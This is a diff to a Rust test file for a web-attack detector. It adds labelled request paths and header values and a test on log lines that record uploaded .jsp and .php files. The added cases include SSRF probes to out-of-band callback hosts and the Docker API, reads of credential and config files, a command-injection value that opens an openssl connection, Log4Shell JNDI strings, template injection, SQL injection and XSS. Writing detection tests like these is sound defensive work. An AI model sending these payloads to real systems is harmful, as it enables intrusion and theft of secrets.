@@ -52,6 +52,22 @@ const TARGETS: &[(&str, &str)] = &[
     ("GET", "/q?x=1%27;+shutdown--"),
     ("GET", "/s?x=%22+onerror=%22alert+(1)"),
     ("GET", "/s?x=%27%2bdocument.cookie%2b%27"),
+    ("GET", "/img?url=http://c5abc.oast.fun/x"),
+    ("GET", "/ping?host=abc123.oastify.com"),
+    ("GET", "/fetch?url=http://host.docker.internal:2375/version"),
+    ("GET", "/fetch?src=ftp://127.0.0.1/etc"),
+    ("GET", "/app?service=page/SetupCompleted"),
+    ("GET", "/mifs/asfV3/api/v2/admins/users"),
+    ("GET", "/toolbox-resource/../secmsg/x"),
+    ("GET", "/(S(X))/b/(S(X))in/web.dll"),
+    ("GET", "/bin/querybuilder.json.;%0aa.css?path=/home"),
+    ("GET", "/read?file=/opt/tomcat/conf/server.xml"),
+    ("GET", "/read?file=~/.bash_history"),
+    ("GET", "/read?file=/etc/kubernetes/admin.conf"),
+    ("GET", "/ping?host=1;openssl+s_client+-connect+192.0.2.1:443"),
+    ("GET", "/page?name=%7B%7Bsettings.SECRET_KEY%7D%7D"),
+    ("GET", "/_cat/indices?v"),
+    ("GET", "/actuator/configprops"),
 ];
 
 /// What looks like these and is none.
@@ -96,6 +112,27 @@ fn one_request_is_an_attempt_and_an_answer_is_high() {
     }
 }
 
+/// A log tells who has signed in, and whether something was there before.
+#[test]
+fn a_program_that_somebody_created_is_high() {
+    let at = |user: &str, target: &str, status: u16| {
+        format!(
+            "198.51.100.1 - {user} [22/Nov/2026:10:00:00 +0000] \"PUT {target} HTTP/1.1\" {status} 5 \"-\" \"-\"\n"
+        )
+    };
+    for (line, is_told) in [
+        (at("-", "/x.jsp", 201), true),
+        (at("-", "/app/x.php", 201), true),
+        (at("-", "/x.jsp", 403), false),
+        (at("-", "/notes.txt", 201), false),
+        (at("joe", "/x.php", 201), false),
+        (at("-", "/share/web/site/x.php", 201), false),
+    ] {
+        let alerts = rules([line.clone()].into_iter());
+        assert_eq!(alerts.iter().any(|rule| rule == "http-attack-answered"), is_told, "{line}");
+    }
+}
+
 /// A field of a request, and whether it is an attack.
 const FIELDS: &[(&str, &str, bool)] = &[
     ("x-middleware-subrequest", "pages/_middleware", true),
@@ -114,6 +151,14 @@ const FIELDS: &[(&str, &str, bool)] = &[
     ("authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln", false),
     ("accept-language", "en' or 1=1--", true),
     ("accept-language", "en-GB,en;q=0.8", false),
+    ("x-api-key", "${jndi:ldap://192.0.2.1/a}", true),
+    ("cf-connecting-ip", "${jndi:ldap://192.0.2.1/a}", true),
+    ("x-api-key", "f00dfeed", false),
+    ("referer", "https://x.oast.pro/", true),
+    ("referer", "https://db.example/index.php?route=/sql&db=information_schema", false),
+    ("referer", "https://wiki.example/?search=document.cookie&go=1", false),
+    ("referer", "https://shop.example/?x=' or '1'='1", true),
+    ("referer", "https://shop.example/<script>alert(1)</script>", true),
     ("test", "() { :;}; echo x", true),
     ("x-original-url", "/admin", true),
     ("x-original-url", "/cart", false),
